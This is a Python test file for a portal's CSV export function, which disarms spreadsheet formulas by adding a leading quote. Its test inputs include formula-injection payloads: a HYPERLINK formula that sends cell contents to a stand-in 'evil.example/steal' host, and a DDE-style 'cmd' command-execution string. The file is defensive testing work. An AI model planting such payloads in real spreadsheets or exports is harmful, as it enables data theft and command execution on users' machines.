"""The one CSV writer: a cell that a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest

from portal.csvexport import csv_cell, csv_lines


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://evil.example/steal?d="&B2&C2,"Open")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "+1+1",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+1 800 555 1212",  # spaced: not a plain number, so disarmed like any other text
    ],
)
def test_a_would_be_formula_gets_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+18005551212", "-12.50", "93901", "0 Oak St", "Núñez-Ortiz", "2026-01-01", "", "'quoted"]
)
def test_plain_text_and_numbers_are_written_as_they_are(value: str) -> None:
    # A number with a sign is a number in every spreadsheet, never a formula: E.164 phones and
    # negative amounts stay usable.
    assert csv_cell(value) == value


def test_none_is_an_empty_cell_and_other_values_are_text() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(-3) == "-3"


def test_every_cell_is_quoted_so_other_separators_stay_inside_it() -> None:
    lines = list(csv_lines(["name", "line2"], [["Ana", "Apt 4;=1+1\tx"], ["Bea", 'say "hi"']]))
    assert lines[0] == '"name","line2"\r\n'
    assert lines[1] == '"Ana","Apt 4;=1+1\tx"\r\n'
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["name", "line2"],
        ["Ana", "Apt 4;=1+1\tx"],
        ["Bea", 'say "hi"'],
    ]
